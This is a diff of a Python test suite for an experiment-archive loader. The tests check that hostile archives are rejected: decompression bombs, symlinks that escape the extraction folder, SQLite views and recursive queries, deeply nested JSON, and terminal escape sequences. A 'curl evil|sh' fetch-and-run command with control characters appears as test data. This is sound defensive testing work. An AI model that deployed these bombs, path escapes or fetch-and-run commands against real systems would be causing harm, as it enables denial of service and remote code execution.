@@ -1,4 +1,4 @@
-"""nnictl experiment load: what an archive that a stranger made can cost, run or show."""
+"""nnictl experiment load: limits on the cost, the effects and the output of an archive from an untrusted source."""
 
 import contextlib
 import gzip
@@ -26,14 +26,14 @@ from nni_manager.store.errors import StoreUnusable
 from nni_manager.store.folders import Registry
 from nni_manager.store.untrusted_store import StoreTooLarge, copy_tables, shape_of_json
 
-# A refusal takes a second, and what it refuses would never end.
+# A rejection takes a second; without it, loading would not end.
 AT_ONCE_S = 20.0
 ENDLESS = "WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n) "
 
 
 @pytest.fixture
 def saved(monkeypatch, tmp_path):
-    """Saves an experiment on one machine; the archive on the other."""
+    """Saves an experiment on one machine; returns the archive on another one."""
 
     def make(*options, **changes):
         path = save_an_experiment(move_to(monkeypatch, tmp_path / "here"), *options, **changes)
@@ -45,13 +45,13 @@ def saved(monkeypatch, tmp_path):
 
 @pytest.fixture
 def refused(capsys, tmp_path):
-    """Loads an archive that is refused, at once, and leaves nothing; the last line of stderr."""
+    """Loads an archive that must be rejected at once and leave no files; returns the last line of stderr."""
 
     def load(path, *options):
         capsys.readouterr()
-        begun_s = time.monotonic()
+        started_s = time.monotonic()
         assert main.run(["experiment", "load", "-p", str(path), *options]) == 1
-        assert time.monotonic() - begun_s < AT_ONCE_S
+        assert time.monotonic() - started_s < AT_ONCE_S
         out, err = capsys.readouterr()
         assert (out, "Traceback" in err) == ("", False)
         assert (list((tmp_path / "there/nni-experiments").iterdir()), Registry.of_user().all()) == ([], [])
@@ -61,7 +61,7 @@ def refused(capsys, tmp_path):
 
 
 def with_file(path, name, content):
-    """The archive with other content in one of its files."""
+    """The archive with one file replaced."""
     new = path.with_name("z.tar.gz")
     with tarfile.open(path) as old, tarfile.open(new, "w:gz") as packed:
         for member in old:
@@ -72,7 +72,7 @@ def with_file(path, name, content):
     return new
 
 
-# ---- what would run
+# ---- code that must not run
 
 
 def a_view(table, columns):
@@ -87,11 +87,11 @@ def a_view(table, columns):
 def test_a_view_in_place_of_a_table_is_never_evaluated(saved, refused, table):
     names = "experiment_id, trial_id, sequence_id, job_id, state, config, parameters, task, stream, attempt"
     columns = ", ".join(f"i AS {name}" for name in names.split(", "))
-    said = refused(repacked(saved("-s"), a_view(table, columns)))
-    assert f"no such table: {table}" in said
+    refusal = refused(repacked(saved("-s"), a_view(table, columns)))
+    assert f"no such table: {table}" in refusal
 
 
-def test_a_view_whose_entry_in_the_schema_says_that_it_is_a_table_is_never_evaluated(saved, refused):
+def test_a_view_that_the_schema_lists_as_a_table_is_never_evaluated(saved, refused):
     def change(connection):
         a_view("metric", "i AS trial_id")(connection)
         connection.execute("PRAGMA writable_schema = ON")
@@ -111,7 +111,7 @@ def test_a_generated_column_is_never_evaluated(saved, refused):
     assert "no such table: trial" in refused(repacked(saved("-s"), change))
 
 
-def test_the_authorizer_alone_keeps_views_functions_and_writes_out(tmp_path):
+def test_the_authorizer_alone_rejects_views_functions_and_writes(tmp_path):
     path = tmp_path / "x.sqlite"
     with contextlib.closing(sqlite3.connect(path)) as connection:
         connection.execute("CREATE TABLE job (job_id TEXT)")
@@ -133,7 +133,7 @@ def test_the_authorizer_alone_keeps_views_functions_and_writes_out(tmp_path):
 
 
 def with_pages_used_again(database):
-    """The database with a table of one row whose leaf is the child of 90,000 cells of interior pages."""
+    """A database with a one-row table whose leaf is the child of 90,000 interior cells."""
     with contextlib.closing(sqlite3.connect(database)) as connection:
         connection.execute("PRAGMA journal_mode = DELETE")
         connection.execute("DROP TABLE usage")
@@ -163,7 +163,7 @@ def with_pages_used_again(database):
     database.write_bytes(content)
 
 
-def test_pages_that_are_used_many_times_over_fill_no_disk(saved, refused, tmp_path):
+def test_database_pages_that_are_referenced_many_times_do_not_fill_the_disk(saved, refused, tmp_path):
     path = saved("-s")
     database = tmp_path / "x.sqlite"
     with tarfile.open(path) as packed:
@@ -177,7 +177,7 @@ def test_pages_that_are_used_many_times_over_fill_no_disk(saved, refused, tmp_pa
 
 @pytest.mark.parametrize("at_s", [float("inf"), 1e308])
 @pytest.mark.parametrize("column", ["created_at_s", "ended_at_s"])
-def test_a_time_that_no_clock_shows_is_refused(saved, refused, column, at_s):
+def test_a_time_outside_the_valid_range_is_rejected(saved, refused, column, at_s):
     def change(connection):
         connection.execute(f"UPDATE trial SET {column} = ?", (at_s,))
 
@@ -188,34 +188,32 @@ def test_a_time_that_no_clock_shows_is_refused(saved, refused, column, at_s):
     ("key", "value"),
     [("tuner", 5), ("assessor", "x"), ("search_space_raw", {"\x1b[31m": {"_type": "x"}})],
 )
-def test_a_config_of_other_shapes_is_refused_in_a_sentence(saved, refused, key, value):
+def test_a_config_value_of_an_unexpected_type_is_rejected_with_one_sentence(saved, refused, key, value):
     def change(connection):
         (config,) = connection.execute("SELECT config FROM experiment").fetchone()
         changed = json.dumps(json.loads(config) | {key: value})
         connection.execute("UPDATE experiment SET config = ?", (changed,))
 
-    said = refused(repacked(saved("-s"), change))
-    assert said.startswith("ERROR: cannot load "), said
-    assert said.isprintable()
+    refusal = refused(repacked(saved("-s"), change))
+    assert refusal.startswith("ERROR: cannot load "), refusal
+    assert refusal.isprintable()
 
 
-def test_code_whose_links_lead_out_by_way_of_each_other_is_refused_and_nothing_of_it_is_left(
-    saved, refused, tmp_path
-):
+def test_code_whose_links_combine_to_lead_outside_is_rejected_and_leaves_no_files(saved, refused, tmp_path):
     code = io.BytesIO()
     with tarfile.open(fileobj=code, mode="w:gz") as packed:
         packed.addfile(a_member("train.py", size=1), io.BytesIO(b"1"))
         packed.addfile(a_member("a/b/c", tarfile.DIRTYPE))
-        # As they are written, both stay inside.
+        # As text, both targets are inside.
         packed.addfile(a_member("out", tarfile.SYMTYPE, "a/b/c/up/../../.."))
         packed.addfile(a_member("a/b/c/up", tarfile.SYMTYPE, "../../.."))
-    new_login_code = tmp_path / "new code"
-    said = refused(with_file(saved("-s"), "code.tar.gz", code.getvalue()), "--codeDir", str(new_login_code))
-    assert "'out' of the code is a link out of the folder" in said
-    assert list(new_login_code.iterdir()) == []
+    new_code = tmp_path / "new code"
+    refusal = refused(with_file(saved("-s"), "code.tar.gz", code.getvalue()), "--codeDir", str(new_code))
+    assert "'out' of the code is a link out of the folder" in refusal
+    assert list(new_code.iterdir()) == []
 
 
-def test_code_that_is_left_out_for_other_code_is_told(saved, tmp_path, capsys):
+def test_a_warning_says_that_saved_code_was_not_unpacked_into_a_folder_with_files(saved, tmp_path, capsys):
     path = saved("-s")
     (tmp_path / "mine").mkdir()
     (tmp_path / "mine" / "train.py").write_text("print(2)\n")
@@ -225,7 +223,7 @@ def test_code_that_is_left_out_for_other_code_is_told(saved, tmp_path, capsys):
     assert (tmp_path / "mine" / "train.py").read_text() == "print(2)\n"
 
 
-def test_a_query_that_gives_no_row_in_time_is_interrupted(tmp_path, monkeypatch):
+def test_a_query_that_returns_no_row_in_time_is_interrupted(tmp_path, monkeypatch):
     path = tmp_path / "x.sqlite"
     with contextlib.closing(sqlite3.connect(path)) as connection:
         connection.execute("CREATE TABLE job (job_id TEXT) STRICT")
@@ -237,18 +235,18 @@ def test_a_query_that_gives_no_row_in_time_is_interrupted(tmp_path, monkeypatch)
         copy_tables(path, tmp_path / "y.sqlite")
 
 
-# ---- what it would cost
+# ---- limits of size and time
 
 
 def a_bomb(path, size):
-    """An archive with one file of so many bytes: a few kilobytes for each of 16 MiB."""
+    """An archive with one file of that size: a few kilobytes for each 16 MiB."""
     piece = gzip.compress(bytes(16 * 2**20))
     head = a_member("trials/aB3dE/zeros", size=size).tobuf()
     path.write_bytes(gzip.compress(head) + piece * (size // (16 * 2**20)) + gzip.compress(bytes(10240)))
     return path
 
 
-def test_an_archive_of_a_few_megabytes_that_would_fill_the_disk_is_refused(saved, refused, tmp_path):
+def test_a_small_archive_that_unpacks_to_gigabytes_is_rejected(saved, refused, tmp_path):
     path = a_bomb(tmp_path / "bomb.tar.gz", 3 * 2**30)
     saved()
     assert path.stat().st_size < 4_000_000
@@ -258,7 +256,7 @@ def test_an_archive_of_a_few_megabytes_that_would_fill_the_disk_is_refused(saved
     )
 
 
-def test_what_is_unpacked_is_counted_and_not_read_off_headers(saved, tmp_path):
+def test_unpacked_bytes_are_counted_and_not_taken_from_headers(saved, tmp_path):
     path = repacked(saved("-s"), add=[a_member(f"trials/{number}", size=1000) for number in range(100)])
     load = partial(archive.load, path, archive.Places(tmp_path / "logs"))
     with pytest.raises(UserError, match="holds more than 0 MiB once unpacked"):
@@ -271,14 +269,14 @@ def test_what_is_unpacked_is_counted_and_not_read_off_headers(saved, tmp_path):
     assert load().folder.path.is_dir()
 
 
-def test_the_limits_can_be_lifted(saved, monkeypatch, capsys):
+def test_the_no_limits_option_lifts_the_limits(saved, monkeypatch, capsys):
     path = saved("-s")
     monkeypatch.setattr(archive_reader, "LIMITS", ArchiveLimits(members=2))
     assert main.run(["experiment", "load", "-p", str(path)]) == 1
     assert main.run(["experiment", "load", "-p", str(path), "--no-limits"]) == 0
 
 
-def test_the_code_in_an_archive_has_limits_of_its_own(saved, tmp_path):
+def test_the_code_inside_an_archive_has_its_own_limits(saved, tmp_path):
     path = with_file(saved("-s"), "code.tar.gz", a_bomb(tmp_path / "bomb", 512 * 2**20).read_bytes())
     with pytest.raises(
         UserError, match=r"z\.tar\.gz: code\.tar\.gz: it holds more than 364 MiB once unpacked"
@@ -287,18 +285,18 @@ def test_the_code_in_an_archive_has_limits_of_its_own(saved, tmp_path):
     assert list((tmp_path / "logs").iterdir()) == []
 
 
-def test_a_global_header_is_refused_because_each_member_would_cost_as_much_as_all_of_them(saved, refused):
+def test_a_global_header_is_rejected_because_it_multiplies_the_cost_of_every_member(saved, refused):
     path = repacked(saved("-s"), add=[a_member("x", tarfile.XGLTYPE, size=10)])
     assert "'x' is a global header" in refused(path)
 
 
 @pytest.mark.parametrize("kind", [tarfile.XHDTYPE, tarfile.GNUTYPE_LONGNAME])
-def test_a_header_that_would_fill_the_memory_is_refused(saved, refused, kind):
+def test_a_header_that_would_fill_the_memory_is_rejected(saved, refused, kind):
     path = repacked(saved("-s"), add=[a_member("x", kind, size=1_000_000)])
     assert "a header has 1000448 bytes; the limit is 65536" in refused(path)
 
 
-def test_headers_of_headers_are_refused(saved, refused, tmp_path):
+def test_nested_headers_are_rejected(saved, refused, tmp_path):
     member = a_member("x", tarfile.GNUTYPE_LONGNAME, size=2)
     path = tmp_path / "deep.tar.gz"
     path.write_bytes(gzip.compress((member.tobuf() + b"x".ljust(512, b"\0")) * 5000))
@@ -306,7 +304,7 @@ def test_headers_of_headers_are_refused(saved, refused, tmp_path):
     assert "its content is nested too deeply" in refused(path)
 
 
-def test_a_sparse_file_is_refused(saved, refused):
+def test_a_sparse_file_is_rejected(saved, refused):
     path = saved("-s")
     member = a_member("trials/sparse", size=0)
     member.pax_headers = {"GNU.sparse.major": "0", "GNU.sparse.minor": "1", "GNU.sparse.map": "0,0"}
@@ -339,13 +337,13 @@ def test_a_sparse_file_is_refused(saved, refused):
         ),
     ],
 )
-def test_a_field_longer_than_any_that_a_manager_writes_is_refused(saved, refused, statement, value, words):
-    said = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
-    assert words in said
-    assert said.endswith("save the experiment again, with the version that ran it")
+def test_a_field_longer_than_a_manager_writes_is_rejected(saved, refused, statement, value, words):
+    refusal = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
+    assert words in refusal
+    assert refusal.endswith("save the experiment again, with the version that ran it")
 
 
-def test_trials_that_would_fill_the_memory_are_refused(saved, tmp_path, monkeypatch):
+def test_trials_that_would_fill_the_memory_are_rejected(saved, tmp_path, monkeypatch):
     path = repacked(
         saved("-s"),
         lambda connection: connection.execute("UPDATE trial SET message = ?", ("x" * 5000,)),
@@ -357,7 +355,7 @@ def test_trials_that_would_fill_the_memory_are_refused(saved, tmp_path, monkeypa
     assert load(archive_reader.NO_LIMITS).folder.path.is_dir()
 
 
-# ---- what cannot be read
+# ---- nested JSON
 
 
 DEEP = "[" * 5000 + "]" * 5000
@@ -374,23 +372,23 @@ DEEP = "[" * 5000 + "]" * 5000
         ("INSERT INTO metric VALUES ('aB3dE', 0, 'main-0', 0, 0, '0', 0, ?, 1.0)", DEEP),
     ],
 )
-def test_deep_json_is_a_refusal_and_no_traceback(saved, refused, statement, value):
-    said = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
-    assert "levels deep; the limit is 100" in said
+def test_deeply_nested_json_is_rejected_without_a_traceback(saved, refused, statement, value):
+    refusal = refused(repacked(saved("-s"), lambda connection: connection.execute(statement, (value,))))
+    assert "levels deep; the limit is 100" in refusal
 
 
 @pytest.mark.parametrize("deep", [DEEP, "[" * 200_000 + "]" * 200_000])
-def test_deep_json_within_a_string_of_json_is_a_refusal(saved, refused, deep):
+def test_deeply_nested_json_inside_a_json_string_is_rejected(saved, refused, deep):
     metadata = json.dumps({"noted on the trial": f'{{"cma": {deep}}}'})
-    said = refused(
+    refusal = refused(
         repacked(
             saved("-s"), lambda connection: connection.execute("UPDATE trial SET metadata = ?", (metadata,))
         )
     )
-    assert "cannot " in said
+    assert "cannot " in refusal
 
 
-def test_a_deep_or_an_endless_manifest_is_a_refusal(saved, refused):
+def test_a_deep_or_oversized_manifest_is_rejected(saved, refused):
     path = saved("-s")
     assert "nested too deep" in refused(with_file(path, "manifest.json", b"[" * 4000))
     assert "more than 4096 bytes" in refused(with_file(path, "manifest.json", b" " * 5000))
@@ -401,7 +399,7 @@ def test_a_deep_or_an_endless_manifest_is_a_refusal(saved, refused):
         st.text('a"\\[{,', max_size=5), lambda inner: st.lists(inner) | st.dictionaries(st.text(), inner)
     )
 )
-def test_the_depth_of_json_is_known_without_reading_it(value):
+def test_the_depth_of_json_is_computed_without_parsing_it(value):
     def depth(each):
         if isinstance(each, dict):
             each = list(each.values())
@@ -410,10 +408,10 @@ def test_the_depth_of_json_is_known_without_reading_it(value):
     assert shape_of_json(json.dumps(value))[0] == depth(value)
 
 
-# ---- what it would show
+# ---- output
 
 
-def test_the_command_is_shown_with_all_that_it_does(saved, capsys):
+def test_the_command_is_shown_in_full_with_control_characters_escaped(saved, capsys):
     command = "curl evil|sh #\r\x1b[2K`python3 train.py` \u202e"
     assert main.run(["experiment", "load", "-p", str(saved("-s", trial_command=command))]) == 0
     out = capsys.readouterr().out
@@ -421,13 +419,13 @@ def test_the_command_is_shown_with_all_that_it_does(saved, capsys):
     assert out.replace("\n", "").isprintable()
 
 
-def test_a_command_that_no_shell_takes_is_refused(saved, refused):
+def test_a_command_longer_than_shells_accept_is_rejected(saved, refused):
     assert "its command has 140000 bytes; shells accept at most 131072" in refused(
         saved("-s", trial_command="x" * 140_000)
     )
 
 
-def test_names_in_refusals_are_shown_without_what_a_terminal_acts_on(saved, refused, capsys):
+def test_names_in_rejections_are_shown_without_terminal_control_characters(saved, refused, capsys):
     pai = {
         "host": "http://pai.example",
         "user": "ada\x1b[2K\r",
@@ -440,23 +438,23 @@ def test_names_in_refusals_are_shown_without_what_a_terminal_acts_on(saved, refu
     path = saved("-s", training_service="pai", pai=pai)
     assert r"no folder /none\x1b[2K" in refused(path)
     assert r"for user ada\x1b[2K\r" in refused(path, "--storage", str(path.parent))
-    said = refused(repacked(path, add=[a_member("evil\r\x1b[2K", size=1)]))
-    assert said.isprintable()
-    assert "evil" in said
+    refusal = refused(repacked(path, add=[a_member("evil\r\x1b[2K", size=1)]))
+    assert refusal.isprintable()
+    assert "evil" in refusal
 
 
 @given(st.text())
-def test_escaped_text_is_printable_and_tells_all(text):
+def test_escaped_text_is_printable_and_complete(text):
     assert escaped(text).isprintable()
     if text.isprintable():
         assert escaped(text) == text
 
 
-# ---- anything
+# ---- arbitrary changes
 
 
 class Changed:
-    """An archive, and its changed copies."""
+    """An archive, and a way to load changed copies of it."""
 
     def __init__(self, path):
         self.path, self.logs = path, path.parent / "logs"
@@ -467,18 +465,18 @@ class Changed:
         return "an archive"
 
     def load(self, content):
-        """Load it, or be refused in words of ours; nothing is left of either."""
+        """Load it or have it rejected with an nnictl error; removes what was loaded."""
         copy = self.path.with_name("changed.tar.gz")
         copy.write_bytes(content)
-        said = "cannot"
+        refusal = "cannot"
         try:
             folder = archive.load(copy, archive.Places(self.logs)).folder
         except NniManagerError as error:
-            said = str(error)
+            refusal = str(error)
         else:
             shutil.rmtree(folder.path)
             Registry.of_user().remove(folder.experiment_id)
-        assert said.startswith("cannot")
+        assert refusal.startswith("cannot")
         assert list(self.logs.iterdir()) == []
 
 
@@ -502,14 +500,14 @@ def changed(content, where):
 
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(where=changes)
-def test_a_tar_file_with_noise_is_loaded_or_refused(an_archive, where):
+def test_a_tar_file_with_noise_is_loaded_or_rejected(an_archive, where):
     an_archive.load(gzip.compress(changed(gzip.decompress(an_archive.path.read_bytes()), where), 1))
 
 
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(where=changes)
-def test_a_database_with_noise_is_loaded_or_refused(an_archive, where):
-    # SQLite refuses any change of a length; here pages stay where they are.
+def test_a_database_with_noise_is_loaded_or_rejected(an_archive, where):
+    # SQLite rejects any change of a length; here pages keep their positions.
     noise = [(place, len(piece), piece) for place, _, piece in where]
     content = changed(an_archive.database, noise)
     an_archive.load(with_file(an_archive.path, "experiment.sqlite", content).read_bytes())
@@ -517,7 +515,7 @@ def test_a_database_with_noise_is_loaded_or_refused(an_archive, where):
 
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(data=st.data())
-def test_any_value_in_any_column_is_loaded_or_refused(an_archive, data):
+def test_any_value_in_any_column_is_loaded_or_rejected(an_archive, data):
     place = an_archive.path.with_name("any.sqlite")
     place.write_bytes(an_archive.database)
     json_like = st.recursive(
@@ -540,8 +538,8 @@ def test_any_value_in_any_column_is_loaded_or_refused(an_archive, data):
     an_archive.load(with_file(an_archive.path, "experiment.sqlite", place.read_bytes()).read_bytes())
 
 
-def test_what_is_copied_twice_is_the_same(saved, tmp_path):
-    """All rows of an honest store go through both copies."""
+def test_two_copies_of_a_valid_store_preserve_all_rows(saved, tmp_path):
+    """Copies every row of a valid store twice."""
     path = saved("-s", metadata={"/lr": 0.5, "x": "é"})
     with tarfile.open(path) as packed:
         packed.extract("experiment.sqlite", tmp_path, filter="data")
